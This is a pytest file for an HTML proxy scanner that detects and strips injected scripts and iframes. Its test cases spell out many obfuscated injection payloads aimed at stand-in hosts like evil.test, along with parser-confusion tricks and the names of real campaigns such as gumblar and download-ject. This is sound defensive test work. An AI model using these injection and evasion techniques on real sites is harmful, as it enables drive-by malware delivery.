"""The HTML scanner: what it finds, what strip() changes (and what it must not)."""

from __future__ import annotations

import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path

import ada_url
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from proxy_addons.core.htmlscan import (
    _CANDIDATE_LOW,
    _VECTOR_MIN_BYTES,
    BodyTooLarge,
    Finding,
    Scanner,
    _candidates,
    decode_script_text,
    parse_elements,
    unescape_attr,
)
from proxy_addons.core.signatures import parse_signatures

ROOT = Path(__file__).resolve().parents[2]
DATA = ROOT / "tests" / "data" / "html"
SIGNATURES = parse_signatures((ROOT / "blocklists" / "signatures.toml").read_text())
PAGE = "http://site.test/dir/page.html"


@dataclass(frozen=True)
class FakeMatch:
    list: str
    rule: str
    mode: str = "enforce"


def blocker(hosts: set[str], prefixes: tuple[str, ...] = (), monitor: set[str] = frozenset()):  # type: ignore[assignment]
    """is_blocked backed by a set of hosts (with subdomains) and URL prefixes."""

    def is_blocked(url: str) -> FakeMatch | None:
        for prefix in prefixes:
            if url.startswith(prefix):
                return FakeMatch("prefixes", prefix)
        try:
            host = ada_url.URL(url).hostname
        except ValueError:
            return None
        for h in hosts | set(monitor):
            if host == h or host.endswith("." + h):
                return FakeMatch(
                    "monitor-list" if h in monitor else "hosts",
                    h,
                    "monitor" if h in monitor else "enforce",
                )
        return None

    return is_blocked


BLOCKED = blocker({"evil.test", "217.107.218.147"}, ("http://cdn.test/bad/",))


def scanner(**kw: object) -> Scanner:
    return Scanner(BLOCKED, SIGNATURES, **kw)  # type: ignore[arg-type]


def summary(findings: list[Finding]) -> list[tuple[str, str, str]]:
    return [(f.element, f.reason, f.rule) for f in findings]


# One table drives the "what is found" cases: (document, [(element, reason, rule)]).
CASES: list[tuple[str, list[tuple[str, str, str]]]] = [
    ("<p>clean page</p><script src=/app.js></script>", []),
    ("<script src=http://evil.test/x.js></script>", [("script", "blocked-url", "evil.test")]),
    ("<script src=//evil.test/x.js></script>", [("script", "blocked-url", "evil.test")]),
    (
        "<script src=' \thttp://EVIL.test/x.js\n'></script>",
        [("script", "blocked-url", "evil.test")],
    ),
    ("<script src='ht\ttp://ev\nil.test/x.js'></script>", [("script", "blocked-url", "evil.test")]),
    (
        "<script src=&#104;ttp&colon;//evil.test/></script>",
        [("script", "blocked-url", "evil.test")],
    ),
    ("<script src=http://sub.evil.test/x.js></script>", [("script", "blocked-url", "evil.test")]),
    (
        "<script src=http://cdn.test/bad/x.js></script>",
        [("script", "blocked-url", "http://cdn.test/bad/")],
    ),
    ("<script src=http://cdn.test/good/x.js></script>", []),
    (
        "<iframe src=http://evil.test/ width=1 height=1></iframe>",
        [("iframe", "blocked-url", "evil.test")],
    ),
    ("<object data=http://evil.test/a.swf></object>", [("object", "blocked-url", "evil.test")]),
    ("<embed src=http://evil.test/a.swf>", [("embed", "blocked-url", "evil.test")]),
    (
        '<meta http-equiv="Refresh" content="0; URL=\'http://evil.test/\'">',
        [("meta", "blocked-url", "evil.test")],
    ),
    ('<meta name="description" content="http://evil.test/">', []),
    (
        "<svg><script href=http://evil.test/a.js></script></svg>",
        [("svg:script", "blocked-url", "evil.test")],
    ),
    (
        "<svg><script xlink:href=//evil.test/a.js></script></svg>",
        [("svg:script", "blocked-url", "evil.test")],
    ),
    (
        '<svg><script>location = "http://evil.test/"</script></svg>',
        [("svg:script", "inline-reference", "evil.test")],
    ),
    (
        "<svg><script>location='http://ev&#105;l.test/'</script></svg>",
        [("svg:script", "inline-reference", "evil.test")],
    ),
    (
        '<svg><script>fetch("http://evil.test/")</script></svg>',
        [("svg:script", "inline-reference", "evil.test")],
    ),
    # base href: the first wins, relative URLs resolve against it
    (
        "<base href=http://evil.test/><base href=http://ok.test/><script src=a.js></script>",
        [("script", "blocked-url", "evil.test")],
    ),
    ("<base href=http://ok.test/><base href=http://evil.test/><script src=a.js></script>", []),
    ("<!-- <base href=http://evil.test/> --><script src=a.js></script>", []),
    # inline references, through the usual obfuscations
    (
        '<script>document.write("<script src=http://evil.test/x.js><\\/script>")</script>',
        [("script", "inline-reference", "evil.test")],
    ),
    (
        "<script>location = '\\x68\\x74\\x74\\x70://evil\\x2etest/';</script>",
        [("script", "inline-reference", "evil.test")],
    ),
    (
        "<script>s.src = '\\u0068ttp:\\/\\/evil.test\\/';</script>",
        [("script", "inline-reference", "evil.test")],
    ),
    # held as data, with nothing that loads or writes it: reported, kept
    (
        "<script>var u = '\\x68\\x74\\x74\\x70://evil\\x2etest/';</script>",
        [("script", "mention", "evil.test")],
    ),
    (
        '<script>document.write(unescape("%3Ciframe%20src%3Dhttp%3A//evil.test/%3E"))</script>',
        [("script", "inline-reference", "evil.test")],
    ),
    (
        '<script>s.src = "http://ev" + "il.test/x.js";</script>',
        [("script", "inline-reference", "evil.test")],
    ),
    (
        "<script>eval(String.fromCharCode(47,47,101,118,105,108,46,116,101,115,116))</script>",
        [("script", "inline-reference", "evil.test")],
    ),
    (
        '<script>var h = "evil.test"; load("http://" + h)</script>',
        [("script", "inline-reference", "evil.test")],
    ),
    (
        "<script>var s='<iframe src=&#47;&#47;evil.test>'; document.write(s)</script>",
        [("script", "inline-reference", "evil.test")],
    ),
    ("<script>// see http://ok.test/ and 'main.js'\nvar a = 1;</script>", []),
    # code carried in URLs and srcdoc
    (
        "<iframe src=\"javascript:document.write('<script src=//evil.test/></script>')\"></iframe>",
        [("iframe", "inline-reference", "evil.test")],
    ),
    (
        "<iframe src='data:text/html;base64,PHNjcmlwdCBzcmM9Ly9ldmlsLnRlc3QvPjwvc2NyaXB0Pg=='></iframe>",
        [("iframe", "inline-reference", "evil.test")],
    ),
    (
        '<iframe srcdoc="<script src=http://evil.test/></script>"></iframe>',
        [("iframe", "inline-reference", "evil.test")],
    ),
    # signatures
    (
        "<script src=http://www.nihaorr1.com/1.js></script>",
        [("script", "signature", "asprox-nihaorr1")],
    ),
    ("<script src=http://lizamoon.com/ur.php></script>", [("script", "signature", "lizamoon")]),
    ("<script>var a='gumblar.cn';</script>", [("script", "mention", "gumblar")]),
    (
        "<script>document.write('<scr'+'ipt src=//gumblar.cn/rss/></scr'+'ipt>')</script>",
        [("script", "signature", "gumblar")],
    ),
    # a candidate whose tag never ends (unclosed quote) does not hide later ones
    (
        '<!-- <script a=" --><script src=http://evil.test/></script>',
        [("script", "blocked-url", "evil.test")],
    ),
    # not active: inside comments, attributes, RCDATA/RAWTEXT, foreign iframes
    ("<!-- <script src=http://evil.test/></script> -->", []),
    ('<div title="<script src=http://evil.test/>"></div>', []),
    ("<textarea><script src=http://evil.test/></script></textarea>", []),
    ("<title><iframe src=http://evil.test/></title>", []),
    ("<style><script src=http://evil.test/></script></style>", []),
    ("<svg><iframe src=http://evil.test/></iframe></svg>", []),
    # noscript: active with scripting off
    (
        "<noscript><iframe src=http://evil.test/></iframe></noscript>",
        [("iframe", "blocked-url", "evil.test")],
    ),
    # select: modern parsers read <iframe> inside it as raw text, older ones ignore the tag
    (
        "<select><iframe></select><script src=http://evil.test/></script>",
        [("script", "blocked-url", "evil.test")],
    ),
    (
        "<select><style><!--</style><script src=http://evil.test/></script>-->",
        [("script", "blocked-url", "evil.test")],
    ),
    # script data escapes
    (
        "<script><!--<script></script>--></script><script src=http://evil.test/></script>",
        [("script", "blocked-url", "evil.test")],
    ),
    (
        "<script>'</script>'<script src=http://evil.test/></script>",
        [("script", "blocked-url", "evil.test")],
    ),
    # a tree builder in "in frameset" ignores <script>: what follows is markup (Lexbor and
    # html5lib build the frame; the differential test does not compare frames)
    (  # (the script reading, whose text names the host, is reported too: markup is no code)
        "<frameset><script><frame src=http://evil.test/></frameset>",
        [("script", "mention", "evil.test"), ("frame", "blocked-url", "evil.test")],
    ),
    ("<frameset><xmp><frame src=http://evil.test/>", [("frame", "blocked-url", "evil.test")]),
    # and "in column group" in a template ignores it too
    (
        "<template><col><script></template><script src=http://evil.test/></script>",
        [("script", "mention", "evil.test"), ("script", "blocked-url", "evil.test")],
    ),
    # </template> closes MathML content past an integration point (in-head rules)
    (
        "<template><math><mi><mglyph></template><script src=http://evil.test/></script>",
        [("script", "blocked-url", "evil.test")],
    ),
]


@pytest.mark.parametrize(("doc", "expected"), CASES)
@pytest.mark.parametrize("fast_path", [True, False])
def test_cases(doc: str, expected: list[tuple[str, str, str]], fast_path: bool) -> None:
    found = scanner(fast_path=fast_path).scan(doc.encode(), PAGE, "text/html")
    assert summary(found) == expected


def test_finding_offsets_and_dict() -> None:
    body = b"<p>x</p><script src=http://evil.test/a.js></script><p>y</p>"
    (f,) = scanner().scan(body, PAGE, "text/html")
    assert body[f.start : f.end] == b"<script src=http://evil.test/a.js></script>"
    assert f.url == "http://evil.test/a.js"
    assert f.as_dict() == {
        "element": "script", "url": "http://evil.test/a.js", "reason": "blocked-url",
        "rule": "evil.test", "list": "hosts", "start": 8, "end": 51, "removed": True,
        "evidence": None,
    }  # fmt: skip


def test_strip_returns_same_object_when_clean() -> None:
    body = (DATA / "downloadject.html").read_bytes().split(b"</html>")[0] + b"</html>\n"
    out, findings = scanner(after_html="strip").strip(body, PAGE, "text/html")
    assert findings == []
    assert out is body


def test_strip_changes_only_removed_elements() -> None:
    body = b"<p>a</p>\r\n<script src=http://evil.test/1.js></script>\xe2\x82\xac<iframe src=//evil.test/></iframe>!"
    out, findings = scanner().strip(body, PAGE, "text/html; charset=utf-8")
    assert [f.element for f in findings] == ["script", "iframe"]
    expected = (
        b"<p>a</p>\r\n<!-- jectguard: removed script (evil.test) -->\xe2\x82\xac"
        b"<!-- jectguard: removed iframe (evil.test) -->!"
    )
    assert out == expected
    out2, _ = scanner().strip(body, PAGE, "text/html", comment=False)
    assert out2 == b"<p>a</p>\r\n\xe2\x82\xac!"


def test_unclosed_element_runs_to_end_of_body() -> None:
    body = b"<p>keep</p><script src=http://evil.test/>var a = 1;"
    out, (f,) = scanner().strip(body, PAGE, "text/html", comment=False)
    assert (f.start, f.end) == (11, len(body))
    assert out == b"<p>keep</p>"


def test_comment_cannot_be_closed_by_rule_text() -> None:
    def hostile(url: str) -> FakeMatch | None:
        return (
            FakeMatch("l", "x.test --><script>alert(1)</script><!--") if "x.test" in url else None
        )

    body = b"<p>a</p><script src=http://x.test/></script><p>b</p>"
    out, _ = Scanner(hostile).strip(body, PAGE, "text/html")
    comment = out[len(b"<p>a</p>") : -len(b"<p>b</p>")]
    inner = comment[len(b"<!--") : -len(b"-->")]
    assert comment.startswith(b"<!-- jectguard:") and b"--" not in inner and b">" not in inner


def test_download_ject_footer_policy() -> None:
    body = (DATA / "downloadject.html").read_bytes()
    benign = blocker(set())  # no list knows the host: only the policy/signature applies
    off = Scanner(benign, SIGNATURES, after_html="off").scan(body, PAGE, "text/html")  # type: ignore[arg-type]
    assert summary(off) == [("script", "signature", "download-ject")]
    nosig = Scanner(benign, (), after_html="log")  # type: ignore[arg-type]
    out, logged = nosig.strip(body, PAGE, "text/html")
    assert summary(logged) == [("script", "after-html", "active content after </html>")]
    assert not logged[0].removed and out is body
    strip = Scanner(benign, (), after_html="strip")  # type: ignore[arg-type]
    out, removed = strip.strip(body, PAGE, "text/html")
    assert removed[0].removed
    assert out.startswith(body[: removed[0].start])
    assert out.endswith(b"<!-- jectguard: removed script (active content after _/html_) -->\n")
    # The same injection found by the blocklist (inline reference to the IP).
    listed = scanner(after_html="off").scan(body, PAGE, "text/html")
    assert summary(listed) == [("script", "inline-reference", "217.107.218.147")]
    assert listed[0].url == "http://217.107.218.147/dot.php"


def test_monitor_mode_matches_are_reported_not_removed() -> None:
    watch = blocker(set(), monitor={"watch.test"})
    body = b"<script src=http://watch.test/a.js></script>"
    out, (f,) = Scanner(watch).strip(body, PAGE, "text/html")  # type: ignore[arg-type]
    assert f.list == "monitor-list" and not f.removed and out is body


def test_after_html_only_counts_the_real_end_tag() -> None:
    body = b"<!-- </html> --><script>a()</script></body></html>"
    assert scanner(after_html="strip").scan(body, PAGE, "text/html") == []


def test_body_too_large() -> None:
    s = scanner(max_bytes=100)
    with pytest.raises(BodyTooLarge):
        s.scan(b"x" * 101, PAGE, "text/html")
    assert s.scan(b"<p>" + b"x" * 90, PAGE, "text/html") == []


@pytest.mark.parametrize(
    ("content_type", "body", "scanned"),
    [
        ("text/html", b"<script src=//evil.test/></script>", True),
        ("TEXT/HTML; charset=utf-8", b"<script src=//evil.test/></script>", True),
        (None, b"  \n<html><script src=//evil.test/></script>", True),
        ("application/octet-stream", b"<!DOCTYPE html><script src=//evil.test/></script>", True),
        (None, b"var a = '<script src=//evil.test/>'", False),
        ("application/javascript", b"<html><script src=//evil.test/></script>", False),
        ("image/png", b"<html><script src=//evil.test/></script>", False),
    ],
)
def test_content_type_gate(content_type: str | None, body: bytes, scanned: bool) -> None:
    assert bool(scanner().scan(body, PAGE, content_type)) is scanned


# ---- charsets: offsets are original byte offsets; nothing else changes


def _strip_roundtrip(body: bytes, content_type: str, encoding: str, evil: str) -> None:
    out, findings = scanner().strip(body, PAGE, content_type)
    assert len(findings) == 1, findings
    f = findings[0]
    comment = "<!-- jectguard: removed script (evil.test) -->".encode(encoding)
    assert out == body[: f.start] + comment + body[f.end :]
    assert body[f.start : f.end].decode(encoding) == evil


@pytest.mark.parametrize(
    ("encoding", "declare"),
    [
        ("utf-8", "text/html; charset=utf-8"),
        ("windows-1251", "text/html"),  # from <meta charset>
        ("shift_jis", "text/html; charset=Shift_JIS"),
        ("gbk", "text/html; charset=gbk"),
    ],
)
def test_ascii_compatible_charsets(encoding: str, declare: str) -> None:
    # Shift_JIS/GBK trail bytes include '\', letters and '@'..'~' ("ソ表" -> 83 5C 95 5C).
    text = "ソ表 Привет café" if encoding in ("utf-8",) else {
        "windows-1251": "Привет мир", "shift_jis": "ソ表示 テスト", "gbk": "中文 测试"}[encoding]  # fmt: skip
    evil = f"<script src=http://evil.test/a.js>/* {text} */</script>"
    doc = f'<meta charset="{encoding}"><p title="{text}">{text}</p>{evil}<p>{text}ソ</p>'
    body = doc.encode(encoding, "replace")
    _strip_roundtrip(body, declare, encoding, evil.encode(encoding, "replace").decode(encoding))


@pytest.mark.parametrize(
    ("bom", "encoding"), [(b"\xff\xfe", "utf-16-le"), (b"\xfe\xff", "utf-16-be")]
)
def test_utf16_with_bom(bom: bytes, encoding: str) -> None:
    evil = "<script src=http://evil.test/a.js>x = '\U0001f600'</script>"
    doc = f"<p>Привет \U0001f600 ℃</p>{evil}<p>tail 表</p>"
    body = bom + doc.encode(encoding)
    out, (f,) = scanner().strip(body, PAGE, "text/html")
    assert (f.start - len(bom)) % 2 == 0
    assert body[f.start : f.end].decode(encoding) == evil
    comment = "<!-- jectguard: removed script (evil.test) -->".encode(encoding)
    assert out == body[: f.start] + comment + body[f.end :]
    assert out[len(bom) :].decode(encoding) == doc.replace(evil, comment.decode(encoding))


def test_utf16_from_content_type_without_bom() -> None:
    doc = "<p>x</p><iframe src=//evil.test/></iframe>"
    body = doc.encode("utf-16-le")
    out, (f,) = scanner().strip(body, PAGE, "text/html; charset=utf-16le")
    assert body[f.start : f.end].decode("utf-16-le") == "<iframe src=//evil.test/></iframe>"


def test_utf16_non_ascii_unit_never_looks_like_markup() -> None:
    # U+3C3C is '<<' in ASCII bytes but one CJK character in UTF-16.
    doc = "\u3c3cscript src=//evil.test/>\u3e3e<p>ok</p>"
    assert scanner().scan(b"\xff\xfe" + doc.encode("utf-16-le"), PAGE, "text/html") == []


# ---- helpers


def test_unescape_attr_legacy_references() -> None:
    assert unescape_attr("&amp;&lt;&#x3C;&#60;&colon;") == "&<<<:"
    assert unescape_attr("?a=1&copy=2&copy;&copyx") == "?a=1&copy=2©&copyx"
    assert unescape_attr("&notit;") == "&notit;"
    assert unescape_attr("&amp") == "&"


def test_decode_script_text() -> None:
    assert decode_script_text(r"'\x3cscript\x3e'") == "'<script>'"
    assert decode_script_text(r"'\u{1F600}'") == "'\U0001f600'"
    assert decode_script_text("unescape('%3C%u0041')") == "unescape('<A')"
    assert decode_script_text("'http://217.' + '107.218.147/'") == "'http://217.107.218.147/'"


def test_parse_elements_reports_texts_and_attributes() -> None:
    els = parse_elements(
        b"<SCRIPT SRC=a src=b>x</SCRIPT><svg><script>a<![CDATA[<b>]]>&amp;</script></svg>"
    )
    assert [(e.name, e.attrs, e.text) for e in els] == [
        ("script", {"src": "a"}, "x"),
        ("svg:script", {}, "a<b>&"),
    ]


def test_core_stays_pure() -> None:
    code = (
        "import sys, proxy_addons.core.htmlscan, proxy_addons.core.charset, "
        "proxy_addons.core.signatures; "
        "bad = [m for m in ('mitmproxy', 'aiohttp') if m in sys.modules]; "
        "sys.exit(1 if bad else 0)"
    )
    assert subprocess.run([sys.executable, "-c", code], cwd=ROOT).returncode == 0


# ---- the fast path never misses what the precise scan finds

_HOSTS = ["evil.test", "a.test", "e.test", "ok.test"]
_PIECES = [
    "<script src=http://{h}/x.js></script>", "<script>load('//{h}/')</script>", "<iframe src=//{h}/>",
    "<!--", "-->", "<svg>", "</svg>", "<svg><script href=//{h}/>", "<math><mi>", "<noscript>",
    "</noscript>", "<textarea>", "</textarea>", "<script>", "</script>", "<![CDATA[", "]]>",
    "<div title=\"", "\">", "<base href=http://{h}/>", "<script src=rel.js></script>", "<!-- x -->",
    "</html>", "<meta http-equiv=refresh content='0;url=//{h}/'>", "<svg><desc><script src=//{h}/>",
    "<object data=//{h}/>", '<script a="', "<svg a='", "<select>", "<iframe>", "</select>", "</object>", "<p>text</p>", "<foreignObject>", "<style>", "</style>",
    "<SCRIPT SRC=//{h}/x.js></SCRIPT >", "<Script>x()</sCRIPT>", "</HTML>", "<SVG>", "</Svg>", "<BASE HREF=//{h}/>",
    "<META HTTP-EQUIV=Refresh CONTENT='0;url=//{h}/'>", "<IFRAME SRC=//{h}/>", "<script><!--", "<script src=//{h}/x.js",
]  # fmt: skip
# Bodies from this size on take the vectorized candidate search.
_LARGE_FILLER = "<p class=filler>some ordinary text</p>\n" * 240


@st.composite
def _doc(draw: st.DrawFn) -> str:
    parts = draw(
        st.lists(st.tuples(st.sampled_from(_PIECES), st.sampled_from(_HOSTS)), max_size=25)
    )
    return "".join(piece.format(h=host) for piece, host in parts)


@settings(max_examples=800, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    _doc(),
    st.sets(st.sampled_from(_HOSTS)),
    st.sampled_from(["off", "log", "strip"]),
    st.sampled_from(["", "front", "back"]),
)
def test_fast_path_agrees_with_precise_scan(
    doc: str, hosts: set[str], policy: str, pad: str
) -> None:
    if pad == "front":
        doc = _LARGE_FILLER + doc
    elif pad == "back":
        doc = doc + _LARGE_FILLER
    body = doc.encode()
    fast = Scanner(blocker(hosts), SIGNATURES, after_html=policy, cache_entries=0)  # type: ignore[arg-type]
    slow = Scanner(blocker(hosts), SIGNATURES, after_html=policy, fast_path=False)  # type: ignore[arg-type]
    assert fast.scan(body, PAGE, "text/html") == slow.scan(body, PAGE, "text/html")


@settings(max_examples=400, deadline=None)
@given(_doc(), st.binary(max_size=12))
def test_vectorized_candidate_search_finds_what_the_regex_finds(doc: str, tail: bytes) -> None:
    # The vectorized search may add positions (e.g. "<scribble"), which callers
    # confirm; confirmed, it must give exactly the regex's answer.
    def confirmed(body: bytes) -> list[tuple[int, bytes]]:
        low = body.lower()
        return [(p, n) for p, n in _candidates(body, vector=True) if low.startswith(n, p + 1)
                and _CANDIDATE_LOW.match(low, p)]  # fmt: skip

    body = doc.encode() + tail
    assert confirmed(body) == _candidates(body, vector=False)
    large = _LARGE_FILLER.encode() + body
    assert len(large) >= _VECTOR_MIN_BYTES
    assert confirmed(large) == _candidates(large, vector=False)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(_doc(), min_size=2, max_size=4), st.sets(st.sampled_from(_HOSTS)), st.booleans())
def test_warm_caches_agree_with_precise_scan(docs: list[str], hosts: set[str], large: bool) -> None:
    # One scanner sees several pages built from the same pieces, twice over:
    # what it remembers from one page must not change what it finds on another.
    warm = Scanner(blocker(hosts), SIGNATURES, after_html="strip")  # type: ignore[arg-type]
    slow = Scanner(blocker(hosts), SIGNATURES, after_html="strip", fast_path=False)  # type: ignore[arg-type]
    bodies = [((_LARGE_FILLER if large else "") + doc).encode() for doc in docs]
    for body in bodies + bodies[::-1]:
        assert warm.scan(body, PAGE, "text/html") == slow.scan(body, PAGE, "text/html")


def test_a_remembered_script_prefix_is_not_taken_for_a_longer_element() -> None:
    warm = Scanner(blocker({"evil.test"}), SIGNATURES)  # type: ignore[arg-type]
    # Escaped script data: this element runs to the end of the body, and its
    # bytes end with ">", like a whole element.
    first = b"<p>x</p><script><!--<script></script>"
    assert warm.scan(first, PAGE, "text/html") == []
    # Same bytes, then more of the same (double-escaped) element.
    second = first + b"load('//evil.test/x.js')--></script>"
    found = warm.scan(second, PAGE, "text/html")
    assert [(f.element, f.url) for f in found] == [("script", "http://evil.test/x.js")]


@pytest.mark.parametrize(
    "body",
    [
        # every </td> used to copy the whole foreign stack and rescan 64 KB for "<td"
        b"<svg><foreignObject>" + b"<div>" * 4000 + b"</td>" * 20000,
        # every end tag walked a 4000-deep foreign stack (before this session too)
        b"<svg>" + b"<g>" * 4000 + b"</td>" * 20000,
        b"<svg><x><foreignObject><div><svg>" + b"<g>" * 4000 + b"</x>" * 20000,
        # every ignored <noscript> used to look for its end to the end of the document
        b"<frameset>" + b"<noscript>" * 8000,
        b"<template><col>" + b"<noscript>" * 8000,
    ],
    ids=[
        "escaping-end-tags",
        "deep-svg-stack",
        "deep-stack-over-html",
        "frameset-noscript",
        "template-col-noscript",
    ],
)
@pytest.mark.timeout(30)
def test_hostile_repetition_does_not_hang(body: bytes) -> None:
    """Shapes that made the new readings quadratic (found in review; 40-120 s each, now
    well under a second): a hang guard, not a speed target."""
    elements = parse_elements(body, "text/html")
    assert all(el.name != "script" for el in elements)


@pytest.mark.timeout(30)
def test_alternative_readings_have_a_budget_and_a_safe_fallback() -> None:
    """Hundreds of readings that stay in SVG to the end of the page (5.8 s for 34 KB, 119
    bytes gzipped, in review): past the budget every candidate is judged as HTML."""
    body = (
        b"<div><svg></div><svg>"
        + b"<g></div><svg>" * 7000
        + b"<script src=http://evil.test/late.js></script>"
    )
    found = scanner().scan(body, PAGE, "text/html")
    assert any(f.url == "http://evil.test/late.js" and f.removed for f in found)
    stripped, _ = scanner().strip(body, PAGE, "text/html")
    assert b"late.js" not in stripped
